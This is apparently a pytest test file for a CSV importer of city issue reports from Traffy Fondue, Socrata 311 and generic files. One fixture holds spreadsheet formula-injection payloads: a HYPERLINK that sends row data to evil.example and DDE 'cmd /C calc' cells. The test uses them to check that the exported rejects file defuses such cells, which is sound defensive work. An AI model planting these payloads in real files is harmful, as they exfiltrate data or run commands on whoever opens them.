"""Report import from CSV files: Traffy Fondue, Socrata 311 and generic CSVs.

The tiny files below are written by hand against the tiny city (tests/fixtures.py): wards
W-A (lon 100.00-100.01) and W-B (100.01-100.02) between lat 8.40 and 8.41; categories
road (ถนน), flood (น้ำท่วม, "Flooding") and tree (ต้นไม้).
"""

from __future__ import annotations

import csv
import re
import time
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from sqlalchemy import Engine, text

from geo.city.boundary_writes import import_boundaries
from geo.city.routing import route_point
from geo.errors import InvalidInputError, OutsideServiceAreaError
from geo.reports import imports
from geo.reports.imports import (
    STAGES,
    ImportProgress,
    import_reports,
    parse_column_map,
    parse_pg_array,
    read_category_map,
)
from geo.reports.store import create_report
from geo.settings import RoutingSettings
from tests.fixtures import TinyCity, load_tiny_city

TRAFFY_HEADER = "ticket_id,type,comment,coords,photo,address,timestamp,state,last_activity"

# The file as it is written, line by line; the header is line 1 and quoted comments span lines.
T = "2023-05-12 01:00:00+00"
TRAFFY = (
    f"\ufeff{TRAFFY_HEADER}\n"  # 1, with the byte order mark Traffy exports carry
    f'T-1,{{ถนน}},หลุมบนถนน,"100.005,8.405",https://x/1.jpg,ซอย 1,{T},รอรับเรื่อง,'
    "2023-05-12 00:59:59.99+00\n"  # 2
    'T-2,"{กีดขวาง,น้ำท่วม}","น้ำท่วม\n'  # 3
    "บรรทัดที่สอง\n"  # 4
    f'บรรทัดที่สาม","100.015,8.405",,,{T},กำลังดำเนินการ,2023-05-12 02:30:00+00\n'  # 5
    f'T-3,{{}},ไม่มีประเภท,"100.005,8.405",,,{T},รอรับเรื่อง,{T}\n'  # 6
    'T-4,{ถนน},"ไม่มี\n'  # 7
    f'พิกัด",,,,{T},รอรับเรื่อง,{T}\n'  # 8
    f'T-5,{{ต้นไม้}},ไกลเกินไป,"100.015,8.6",,,{T},รอรับเรื่อง,{T}\n'  # 9
    f'T-6,{{ถนน}},ซ่อมแล้ว,"100.006,8.406",,,{T},เสร็จสิ้น,2023-05-12 03:00:00+00\n'  # 10
    f'T-7,{{ถนน}},สถานะแปลก,"100.006,8.406",,,{T},บางอย่าง,{T}\n'  # 11
    f'T-1,{{ถนน}},ซ้ำ,"100.005,8.405",,,{T},รอรับเรื่อง,{T}\n'  # 12
    f',{{ถนน}},ไม่มีเลขที่,"100.005,8.405",,,{T},รอรับเรื่อง,{T}\n'  # 13
    f'T-8,"{{""ต้นไม้"",ถนน}}",ต้นไม้ล้ม,"100.016,8.404",,,{T},ส่งต่อ,{T}\n'  # 14
)
TRAFFY_REJECTED = {
    6: "unknown category: type is empty",
    7: "no coordinates: coords is empty",
    9: "outside the service area",
    11: "unknown status: state 'บางอย่าง' is not a known status",
    12: "duplicate in file: ticket_id 'T-1' already appeared on line 2",
    13: "no external id: ticket_id is empty",
}


@pytest.fixture
def city(engine: Engine) -> TinyCity:
    with engine.begin() as conn:
        return load_tiny_city(conn)


def write(path: Path, content: str) -> Path:
    path.write_text(content, encoding="utf-8", newline="")
    return path


def rejects_of(path: Path) -> dict[int, str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return {int(row["line"]): row["reason"] for row in csv.DictReader(handle)}


def stored(engine: Engine, sql: str) -> list[tuple[object, ...]]:
    with engine.connect() as conn:
        return [tuple(row) for row in conn.execute(text(sql))]


def flat(output: str) -> str:
    """Command output with rich's line wrapping undone."""
    return " ".join(output.split())


def count(engine: Engine, table: str) -> int:
    with engine.connect() as conn:
        return int(conn.execute(text(f"SELECT count(*) FROM {table}")).scalar_one())


@pytest.mark.parametrize(
    ("literal", "elements"),
    [
        ("{}", []),
        ("{กีดขวาง,ถนน}", ["กีดขวาง", "ถนน"]),
        ('{"a, b",c}', ["a, b", "c"]),
        (r'{"say \"hi\"",NULL,x}', ['say "hi"', "x"]),
        ("ถนน", ["ถนน"]),
        ("", []),
    ],
)
def test_postgres_array_literals_are_parsed(literal: str, elements: list[str]) -> None:
    assert parse_pg_array(literal) == elements


@pytest.mark.parametrize("literal", ["{a", '{"a}', "{a,,b}", "{a,}", '{"a"b}', "{{a}}"])
def test_malformed_array_literals_are_refused(literal: str) -> None:
    with pytest.raises(ValueError):
        parse_pg_array(literal)


def test_traffy_rows_are_mapped_routed_or_rejected_with_their_real_line_numbers(
    engine: Engine, city: TinyCity, tmp_path: Path
) -> None:
    rejects = tmp_path / "rejects.csv"
    summary = import_reports(
        engine, write(tmp_path / "traffy.csv", TRAFFY), file_format="traffy", rejects_path=rejects
    )
    assert summary.rows == 10
    assert (summary.inserted, summary.already_present, summary.rejected) == (4, 0, 6)
    found = rejects_of(rejects)
    assert set(found) == set(TRAFFY_REJECTED)
    for line, reason in TRAFFY_REJECTED.items():
        assert found[line].startswith(reason), (line, found[line])
    assert "about 21" in found[9] and "km from the nearest ward" in found[9]
    with rejects.open(encoding="utf-8-sig", newline="") as handle:
        row = next(row for row in csv.DictReader(handle) if row["line"] == "7")
    assert row["comment"] == "ไม่มี\nพิกัด"  # the rejected row as read, to fix and re-import

    rows = stored(
        engine,
        "SELECT r.external_id, c.code, r.status, w.code, r.description, r.created_at, "
        "r.updated_at, r.resolved_at, r.source, r.media_url, r.address FROM reports r "
        "JOIN categories c ON c.id = r.category_id JOIN wards w ON w.id = r.ward_id "
        "ORDER BY r.external_id",
    )
    t0 = datetime(2023, 5, 12, 1, tzinfo=UTC)
    # last_activity a moment before the timestamp is taken as the timestamp
    assert rows[0] == (
        "T-1",
        "road",
        "open",
        "W-A",
        "หลุมบนถนน",
        t0,
        t0,
        None,
        "traffy",
        "https://x/1.jpg",
        "ซอย 1",
    )
    assert rows[1][:5] == ("T-2", "flood", "in_progress", "W-B", "น้ำท่วม\nบรรทัดที่สอง\nบรรทัดที่สาม")
    done = datetime(2023, 5, 12, 3, tzinfo=UTC)
    assert rows[2][:8] == ("T-6", "road", "resolved", "W-A", "ซ่อมแล้ว", t0, done, done)
    assert rows[3][:4] == ("T-8", "tree", "acknowledged", "W-B")
    events = stored(
        engine,
        "SELECT r.external_id, e.kind, e.to_status FROM report_events e "
        "JOIN reports r ON r.id = e.report_id WHERE e.kind = 'status' ORDER BY 1",
    )
    assert events == [
        ("T-2", "status", "in_progress"),
        ("T-6", "status", "resolved"),
        ("T-8", "status", "acknowledged"),
    ]


def test_reimport_adds_nothing_and_chunks_change_nothing(
    engine: Engine, city: TinyCity, tmp_path: Path
) -> None:
    path = write(tmp_path / "traffy.csv", TRAFFY)
    steps: list[ImportProgress] = []
    first = import_reports(
        engine,
        path,
        file_format="traffy",
        rejects_path=tmp_path / "first.csv",
        chunk_rows=3,  # T-1's repeat on line 12 is three chunks after it
        progress=steps.append,
    )
    assert (first.inserted, first.rejected) == (4, 6)
    assert {s.phase for s in steps} == {"reading", "validating", "storing"}
    assert steps[-1].done_bytes == steps[-1].total_bytes == path.stat().st_size
    events = count(engine, "report_events")

    again = import_reports(engine, path, file_format="traffy", rejects_path=tmp_path / "again.csv")
    assert (again.inserted, again.already_present, again.rejected) == (0, 4, 6)
    assert rejects_of(tmp_path / "again.csv") == rejects_of(tmp_path / "first.csv")
    assert count(engine, "reports") == 4
    assert count(engine, "report_events") == events


def test_stored_rows_are_set_aside_before_routing_and_ids_follow_the_file(
    engine: Engine, city: TinyCity, tmp_path: Path
) -> None:
    path = write(tmp_path / "traffy.csv", TRAFFY)
    first = import_reports(
        engine, path, file_format="traffy", rejects_path=tmp_path / "first.csv", chunk_rows=3
    )
    assert set(first.stage_seconds) == set(STAGES)
    assert all(seconds >= 0 for seconds in first.stage_seconds.values())
    ids = stored(engine, "SELECT external_id FROM reports ORDER BY id")
    assert ids == [("T-1",), ("T-2",), ("T-6",), ("T-8",)]
    # With every ward retired, a re-import still finds its rows stored before routing them:
    # already present, not refused as outside.
    with engine.begin() as conn:
        conn.execute(text("UPDATE wards SET retired_at = now()"))
    again = import_reports(
        engine, path, file_format="traffy", rejects_path=tmp_path / "again.csv", chunk_rows=3
    )
    assert (again.inserted, again.already_present, again.rejected) == (0, 4, 6)
    assert rejects_of(tmp_path / "again.csv").keys() == rejects_of(tmp_path / "first.csv").keys()


def test_a_report_stored_elsewhere_while_the_import_runs_is_counted_as_present(
    engine: Engine, city: TinyCity, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Rows are looked up and routed before they are written: a report with the same key
    committed in between is kept as it is, and the import neither fails nor stores it twice."""
    route = imports.route_points

    def route_then_store_t2(*args: Any, **kwargs: Any) -> pd.DataFrame:
        routed = route(*args, **kwargs)
        if not count(engine, "reports"):
            with engine.begin() as other:
                create_report(
                    other,
                    lon=100.015,
                    lat=8.405,
                    category="flood",
                    description="filed by phone",
                    settings=RoutingSettings(),
                    source="traffy",
                    external_id="T-2",
                )
        return routed

    monkeypatch.setattr(imports, "route_points", route_then_store_t2)
    summary = import_reports(
        engine,
        write(tmp_path / "traffy.csv", TRAFFY),
        file_format="traffy",
        rejects_path=tmp_path / "r.csv",
    )
    assert (summary.inserted, summary.already_present, summary.rejected) == (3, 1, 6)
    assert stored(engine, "SELECT description FROM reports WHERE external_id = 'T-2'") == [
        ("filed by phone",)
    ]
    assert count(engine, "reports") == 4


def test_rows_without_a_usable_category_take_the_default(
    engine: Engine, city: TinyCity, tmp_path: Path
) -> None:
    summary = import_reports(
        engine,
        write(tmp_path / "traffy.csv", TRAFFY),
        file_format="traffy",
        default_category="tree",
        category_map={"กีดขวาง": "road"},  # the map comes before the categories' own names
        rejects_path=tmp_path / "rejects.csv",
    )
    assert summary.inserted == 5
    assert stored(
        engine,
        "SELECT c.code FROM reports r JOIN categories c ON c.id = "
        "r.category_id WHERE external_id IN ('T-2', 'T-3') ORDER BY 1",
    ) == [
        ("road",),
        ("tree",),
    ]


SOCRATA_HEADER = (
    "sr_number,sr_type,status,created_date,last_modified_date,closed_date,street_address,"
    "latitude,longitude"
)
SOCRATA = (
    f"{SOCRATA_HEADER}\n"
    "SR-1,Pothole in Street Complaint,Completed,2021-01-01T00:00:09.000,"
    "2021-01-02T10:00:00.000,2021-01-02T10:00:00.000,1 Main St,8.405,100.005\n"
    "SR-2,Tree Trim Request,Canceled,2021-01-01T01:00:00.000,2021-01-01T05:00:00.000,"
    "2021-01-01T05:00:00.000,,8.405,100.015\n"
    "SR-3,Water On Street Complaint,Open,2021-01-01T02:00:00.000,2021-01-01T02:00:00.000,,,"
    "8.405,100.015\n"
    "SR-4,Pothole in Street Complaint,Open,2021-01-01T02:00:00.000,,,,,\n"
    "SR-5,Graffiti Removal Request,Open,2021-01-01T02:00:00.000,,,,8.405,100.015\n"
    "SR-6,Pothole in Street Complaint,Pending,2021-01-01T02:00:00.000,,,,8.405,100.015\n"
    "SR-7,Pothole in Street Complaint,Open,01/01/2021 03:00:00 PM,,,,8.405,100.015\n"
)


def test_socrata_statuses_categories_and_local_times(
    engine: Engine, city: TinyCity, tmp_path: Path
) -> None:
    mapping = write(
        tmp_path / "map.csv",
        "sr_type,code\nPothole in Street Complaint,road\nTree Trim Request,tree\n"
        "water on street  complaint,flood\n",
    )
    rejects = tmp_path / "rejects.csv"
    summary = import_reports(
        engine,
        write(tmp_path / "chicago.csv", SOCRATA),
        file_format="socrata",
        category_map=read_category_map(mapping),
        timezone="Asia/Bangkok",
        rejects_path=rejects,
    )
    assert (summary.inserted, summary.rejected) == (4, 3)
    assert rejects_of(rejects) == {
        5: "no coordinates: latitude or longitude is empty",
        6: "unknown category: sr_type 'Graffiti Removal Request' names no category",
        7: "unknown status: status 'Pending' is not a known status",
    }
    rows = stored(
        engine,
        "SELECT external_id, c.code, status, created_at, resolved_at, description, address, "
        "source FROM reports r JOIN categories c ON c.id = r.category_id ORDER BY 1",
    )
    assert rows == [
        (
            "SR-1",
            "road",
            "closed",
            datetime(2020, 12, 31, 17, 0, 9, tzinfo=UTC),  # Bangkok is UTC+7
            datetime(2021, 1, 2, 3, tzinfo=UTC),
            "Pothole in Street Complaint",
            "1 Main St",
            "socrata",
        ),
        (
            "SR-2",
            "tree",
            "rejected",
            datetime(2020, 12, 31, 18, tzinfo=UTC),
            None,
            "Tree Trim Request",
            None,
            "socrata",
        ),
        (
            "SR-3",
            "flood",
            "open",
            datetime(2020, 12, 31, 19, tzinfo=UTC),
            None,
            "Water On Street Complaint",
            None,
            "socrata",
        ),
        (
            "SR-7",
            "road",
            "open",
            datetime(2021, 1, 1, 8, tzinfo=UTC),
            None,
            "Pothole in Street Complaint",
            None,
            "socrata",
        ),
    ]


GENERIC = """\
ID,LAT,LON,TYPE,TEXT,DATE,STATUS,PHONE
a1,8.405,100.005,road,fine,2024-03-01 10:00,In Progress,081
a2,8.405,100.005,Flooding,{long},2024-03-01 10:00,,
a3,95,100.005,ต้นไม้,,2024-03-01 10:00,,
a4,abc,100.005,road,,yesterday-ish,,
a5,8.405,100.005,flood,,2024-03-01T10:00:00+07:00,closed,
a6,8.405,100.005,ต้นไม้,,2024-03-01 10:00,resolved,
a7,8.405,100.005,tree,,2024-03-01 10:00,resolved
a8,8.405,100.015,Flooding,ok,2024-03-01 10:00,,
"""
T_LOCAL = datetime(2024, 3, 1, 10, tzinfo=UTC)  # no offset, read in the default UTC
GENERIC_MAP = [
    "lat=LAT",
    "lon=LON",
    "category=TYPE",
    "external_id=ID",
    "description=TEXT",
    "created_at=DATE",
    "status=STATUS",
    "reporter_contact=PHONE",
]


def test_generic_csv_rows_are_checked_one_by_one(
    engine: Engine, city: TinyCity, tmp_path: Path
) -> None:
    rejects = tmp_path / "rejects.csv"
    summary = import_reports(
        engine,
        write(tmp_path / "any.csv", GENERIC.format(long="x" * 4001)),
        file_format="csv",
        column_map=parse_column_map(GENERIC_MAP),
        source="hotline",
        rejects_path=rejects,
    )
    assert (summary.inserted, summary.rejected) == (4, 4)
    assert rejects_of(rejects) == {
        3: "description too long: 4,001 characters; at most 4,000 are stored",
        4: "bad coordinates: LAT 95.0 is outside -90..90",
        5: "bad coordinates: LAT 'abc' is not a number; bad date: DATE 'yesterday-ish' is not "
        "a date",
        8: "malformed row: it has 7 fields, the header has 8",
    }
    assert stored(
        engine,
        "SELECT external_id, c.code, status, created_at, reporter_contact, source "
        "FROM reports r JOIN categories c ON c.id = r.category_id ORDER BY 1",
    ) == [
        ("a1", "road", "in_progress", T_LOCAL, "081", "hotline"),
        ("a5", "flood", "closed", datetime(2024, 3, 1, 3, tzinfo=UTC), None, "hotline"),
        ("a6", "tree", "resolved", T_LOCAL, None, "hotline"),  # by its Thai name
        ("a8", "flood", "open", T_LOCAL, None, "hotline"),  # by its English name
    ]


# Cells a spreadsheet would run: a link that sends the row away, and a DDE command.
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2&C2,"Click for details")'
DDE = "=cmd|' /C calc'!A0"
FORMULAS = f"""\
ID,LAT,LON,TYPE,TEXT,DATE,@NOTE
"{HYPERLINK.replace('"', '""')}",abc,100.005,road,{DDE},2024-03-01 10:00,+1+cmd|' /C calc'!A0
f2,95,-87.62,road,@SUM(1+1)*cmd|' /C calc'!A0,2024-03-01 10:00,-2+3
f3,8.405,100.005,road,"\t=1+1",2024-03-01 10:00,ok
f4,8.405,100.005,road,fine,2024-03-01 10:00,-87.62
"""


def test_rejects_file_never_carries_a_cell_a_spreadsheet_would_run(
    engine: Engine, city: TinyCity, tmp_path: Path
) -> None:
    rejects = tmp_path / "rejects.csv"
    summary = import_reports(
        engine,
        write(tmp_path / "formulas.csv", FORMULAS + "f5,8.405,100.005,nope,x,,\n"),
        file_format="csv",
        column_map=parse_column_map(GENERIC_MAP[:6]),
        rejects_path=rejects,
    )
    assert (summary.inserted, summary.rejected) == (2, 3)
    with rejects.open(encoding="utf-8-sig", newline="") as handle:
        header, *rows = list(csv.reader(handle))
    assert header == ["line", "reason", "ID", "LAT", "LON", "TYPE", "TEXT", "DATE", "'@NOTE"]
    by_line = {row[0]: row for row in rows}
    # Each formula is kept, readable, behind the apostrophe that makes it text.
    assert by_line["2"][2:] == [
        "'" + HYPERLINK,
        "abc",
        "100.005",
        "road",
        "'" + DDE,
        "2024-03-01 10:00",
        "'+1+cmd|' /C calc'!A0",
    ]
    assert by_line["3"][6] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert by_line["3"][8] == "'-2+3"
    # A negative number is a number, not a formula: a longitude stays as it was.
    assert by_line["3"][4] == "-87.62"
    for row in rows:
        for cell in row[1:]:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or cell == "-87.62", cell


@pytest.mark.parametrize(
    ("column_map", "default", "message"),
    [
        (
            ["lat=LATITUDE", "lon=LON", "external_id=ID", "category=TYPE"],
            None,
            "column_map: the file has no column 'LATITUDE'; did you mean 'LAT'?",
        ),
        (
            ["lat=LAT", "lon=LON", "category=TYPE"],
            None,
            "column_map: a generic CSV needs external_id",
        ),
        (["lat=LAT", "lon=LON", "external_id=ID"], None, "or give `default_category`"),
        (
            ["lat=LAT", "lon=LON", "external_id=ID"],
            "nope",
            "default_category: there is no active category 'nope'",
        ),
    ],
)
def test_a_bad_column_map_is_refused_naming_the_parameter(
    engine: Engine,
    city: TinyCity,
    tmp_path: Path,
    column_map: list[str],
    default: str | None,
    message: str,
) -> None:
    with pytest.raises(InvalidInputError, match=re.escape(message)):
        import_reports(
            engine,
            write(tmp_path / "any.csv", GENERIC.format(long="")),
            file_format="csv",
            column_map=parse_column_map(column_map),
            default_category=default,
            rejects_path=tmp_path / "rejects.csv",
        )
    with pytest.raises(InvalidInputError, match="'height' is not a field"):
        parse_column_map(["height=H"])


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (TRAFFY.replace(",coords,", ",where,"), "the file has no column 'coords'; its columns are"),
        (b"PK\x03\x04\x14\x00\x00\x00\x08\x00\xa0\xff\xfe", "is not utf-8 text"),
        ("", "is empty"),
        # After several chunks have been stored: everything is rolled back.
        (TRAFFY + 'T-9,{},"a"b,"1,2",,,,,\n', "is not a well-formed CSV at line 15"),
    ],
)
def test_a_bad_file_is_refused_and_changes_nothing(
    engine: Engine, city: TinyCity, tmp_path: Path, content: str | bytes, message: str
) -> None:
    path = tmp_path / "bad.csv"
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        write(path, content)
    with pytest.raises(InvalidInputError, match=re.escape(message)):
        import_reports(
            engine, path, file_format="traffy", rejects_path=tmp_path / "rejects.csv", chunk_rows=2
        )
    assert count(engine, "reports") == 0
    assert count(engine, "report_events") == 0
    assert list(tmp_path.iterdir()) == [path], "no rejects file, not even a temporary one"


def test_undecodable_bytes_deep_in_a_big_file_roll_everything_back(
    engine: Engine, city: TinyCity, tmp_path: Path
) -> None:
    good = "".join(
        f'X-{i},{{ถนน}},ok,"100.005,8.405",,,2023-05-12 01:00:00+00,รอรับเรื่อง,\n' for i in range(400)
    )
    path = tmp_path / "big.csv"
    path.write_bytes(f"{TRAFFY_HEADER}\n{good}".encode() + "Y-1,{ถนน},".encode("cp874") + b"\n")
    steps: list[ImportProgress] = []
    with pytest.raises(InvalidInputError, match=r"is not utf-8 text .* give it with `encoding`"):
        import_reports(
            engine,
            path,
            file_format="traffy",
            rejects_path=tmp_path / "rejects.csv",
            chunk_rows=50,
            progress=steps.append,
        )
    assert max(s.rows for s in steps if s.phase == "storing") >= 100, "chunks were stored"
    assert count(engine, "reports") == 0
    assert list(tmp_path.iterdir()) == [path]


def test_cli_imports_and_reports_counts(
    engine: Engine, city: TinyCity, db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from typer.testing import CliRunner

    from geo.cli.main import app

    path = write(tmp_path / "traffy.csv", TRAFFY)
    monkeypatch.setenv("ISSUEMAP_DATABASE_URL", db_url)
    monkeypatch.chdir(tmp_path)
    runner = CliRunner()
    # Six of ten rows are rejected: more than the default half, so the exit code is 1.
    command = ["reports", "import", str(path), "--format", "traffy", "--lang", "en"]
    result = runner.invoke(app, [*command, "--dry-run"])
    assert result.exit_code == 1, result.output
    assert "dry run: nothing was stored" in flat(result.output)
    assert "60% of the rows were rejected, more than the 50%" in flat(result.output)
    assert count(engine, "reports") == 0

    result = runner.invoke(app, [*command, "--max-reject-share", "60%"])
    assert result.exit_code == 0, result.output
    assert "4 new, 0 already present, 6 rejected" in flat(result.output)
    assert "1 outside the service area" in flat(result.output)
    assert rejects_of(tmp_path / "traffy.rejects.csv").keys() == TRAFFY_REJECTED.keys()

    result = runner.invoke(app, [*command, "--max-reject-share", "0.6"])
    assert result.exit_code == 0, result.output
    assert "0 new, 4 already present, 6 rejected" in flat(result.output)

    result = runner.invoke(
        app,
        ["reports", "import", str(path), "--format", "csv", "--map", "lat=nope", "--lang", "en"],
    )
    assert result.exit_code == 2
    assert "error: --map" in flat(result.output)
    assert count(engine, "reports") == 4


# --- real data ---------------------------------------------------------------------------

CATEGORIES = (
    ("road", "ถนน", "Roads"),
    ("sidewalk", "ทางเท้า", "Sidewalks"),
    ("lighting", "แสงสว่าง", "Street lighting"),
    ("drainage", "ท่อระบายน้ำ", "Drainage"),
    ("flooding", "น้ำท่วม", "Flooding"),
    ("other", "อื่น ๆ", "Other"),
)


def add_categories(engine: Engine) -> None:
    with engine.begin() as conn:
        conn.execute(
            text("INSERT INTO categories (code, name_th, name_en) VALUES (:c, :th, :en)"),
            [{"c": c, "th": th, "en": en} for c, th, en in CATEGORIES],
        )


@pytest.mark.realdata
def test_real_traffy_file_imports_once(shared_data: Path, engine: Engine, tmp_path: Path) -> None:
    import_boundaries(
        engine,
        shared_data / "bkk-boundaries" / "bangkok_district.zip",
        layer="wards",
        id_field="dcode",
        name_field="dname",
    )
    add_categories(engine)
    path = shared_data / "bkk-traffy" / "traffy_teamchadchart.csv"

    strict = import_reports(
        engine, path, file_format="traffy", rejects_path=tmp_path / "strict.csv", dry_run=True
    )
    assert count(engine, "reports") == 0
    assert strict.reasons["unknown category"] >= 96  # at least the {} rows

    started = time.perf_counter()
    first = import_reports(
        engine,
        path,
        file_format="traffy",
        default_category="other",
        rejects_path=tmp_path / "rejects.csv",
    )
    seconds = time.perf_counter() - started
    outside = first.reasons.get("outside the service area", 0)
    print(f"\nTraffy: {first} ({seconds:.2f} s)")
    assert first.rows == 1000
    assert first.reasons["no external id"] == 12
    assert 4 <= outside <= 5
    assert first.rejected == 12 + outside
    assert first.inserted == 988 - outside
    reasons = rejects_of(tmp_path / "rejects.csv")
    assert sum("from the nearest ward" in r for r in reasons.values()) == outside

    again = import_reports(
        engine,
        path,
        file_format="traffy",
        default_category="other",
        rejects_path=tmp_path / "again.csv",
    )
    assert (again.inserted, again.already_present) == (0, first.inserted)
    assert count(engine, "reports") == first.inserted


@pytest.mark.realdata
def test_real_chicago_311_file_imports_once(
    shared_data: Path, engine: Engine, tmp_path: Path
) -> None:
    import_boundaries(
        engine,
        shared_data / "chicago" / "chicago_wards_2015.geojson",
        layer="wards",
        id_field="ward",
        name_field="ward",
    )
    add_categories(engine)
    mapping = write(
        tmp_path / "map.csv",
        "sr_type,code\nStreet Light Out Complaint,lighting\nAlley Light Out Complaint,lighting\n"
        "Water On Street Complaint,flooding\n",
    )
    path = shared_data / "chicago" / "chicago_311_data.csv"
    started = time.perf_counter()
    first = import_reports(
        engine,
        path,
        file_format="socrata",
        category_map=read_category_map(mapping),
        default_category="other",
        timezone="America/Chicago",
        rejects_path=tmp_path / "rejects.csv",
    )
    seconds = time.perf_counter() - started
    print(f"\nChicago: {first} ({seconds:.2f} s)")
    outside = first.reasons.get("outside the service area", 0)
    assert first.rows == 5000
    assert first.reasons["no coordinates"] == 4
    assert outside <= 1
    assert first.inserted == 5000 - 4 - outside
    statuses = dict(stored(engine, "SELECT status, count(*) FROM reports GROUP BY 1"))
    assert set(statuses) == {"closed", "rejected", "open"}
    lit = stored(
        engine,
        "SELECT count(*) FROM reports r JOIN categories c ON "
        "c.id = r.category_id WHERE c.code = 'lighting'",
    )
    assert lit[0][0] >= 83

    again = import_reports(
        engine,
        path,
        file_format="socrata",
        default_category="other",
        timezone="America/Chicago",
        rejects_path=tmp_path / "again.csv",
    )
    assert (again.inserted, again.already_present) == (0, first.inserted)


def test_imported_rows_are_routed_as_single_intake_routes_them(
    engine: Engine, city: TinyCity, tmp_path: Path
) -> None:
    """Interior, edge, corner, zone-line, snapped and outside points of every category, in
    chunks that cross one another: each stored row has the ward, zone, team, snap flag and
    due time ``route_point`` gives, with its audit events; the rest are refused as outside."""
    lons = [99.9996, 100.0, 100.005, 100.01, 100.012, 100.015, 100.02, 100.0204, 100.03]
    lats = [8.3996, 8.40, 8.405, 8.41, 8.4104]
    kinds = [("{ถนน}", "road"), ("{น้ำท่วม}", "flood"), ("{ต้นไม้}", "tree")]
    states = [("รอรับเรื่อง", "open"), ("เสร็จสิ้น", "resolved"), ("กำลังดำเนินการ", "in_progress")]
    lines = [f"\ufeff{TRAFFY_HEADER}"]
    expected_rows: dict[str, tuple[float, float, str, str]] = {}
    for i, (lon, lat) in enumerate((x, y) for x in lons for y in lats):
        for j, (kind, code) in enumerate(kinds):
            state, status = states[(i + j) % len(states)]
            ticket = f"G-{i:02d}-{code}"
            lines.append(f'{ticket},{kind},,"{lon},{lat}",,,{T},{state},{T}')
            expected_rows[ticket] = (lon, lat, code, status)
    path = write(tmp_path / "grid.csv", "\n".join(lines) + "\n")
    summary = import_reports(
        engine, path, file_format="traffy", rejects_path=tmp_path / "r.csv", chunk_rows=16
    )

    created = datetime(2023, 5, 12, 1, tzinfo=UTC)
    settings = RoutingSettings()
    want: dict[str, tuple[object, ...]] = {}
    outside = set()
    with engine.connect() as conn:
        for ticket, (lon, lat, code, status) in expected_rows.items():
            try:
                route = route_point(
                    conn,
                    lon=lon,
                    lat=lat,
                    category_id=city.categories[code],
                    created_at=created,
                    settings=settings,
                )
            except OutsideServiceAreaError:
                outside.add(ticket)
                continue
            want[ticket] = (
                route.ward_id,
                route.snapped,
                route.zone_id,
                route.team_id,
                route.due_at,
                status,
            )
    got = {
        row[0]: row[1:]
        for row in stored(
            engine,
            "SELECT external_id, ward_id, ward_snapped, zone_id, team_id, due_at, status "
            "FROM reports",
        )
    }
    assert got == want
    # Every kind of answer is in the grid: snapped or not, every team, and no team.
    assert {w[1] for w in want.values()} == {True, False}
    assert {w[3] for w in want.values()} == {*city.teams.values(), None}
    assert outside and summary.rejected == len(outside) == len(expected_rows) - len(want)
    assert all(
        r.startswith("outside the service area") for r in rejects_of(tmp_path / "r.csv").values()
    )
    events = stored(
        engine,
        "SELECT r.external_id, e.kind, e.from_status, e.to_status FROM report_events e "
        "JOIN reports r ON r.id = e.report_id",
    )
    assert sorted(events) == sorted(
        [(t, "created", None, "open") for t in want]
        + [(t, "status", "open", w[-1]) for t, w in want.items() if w[-1] != "open"]
    )
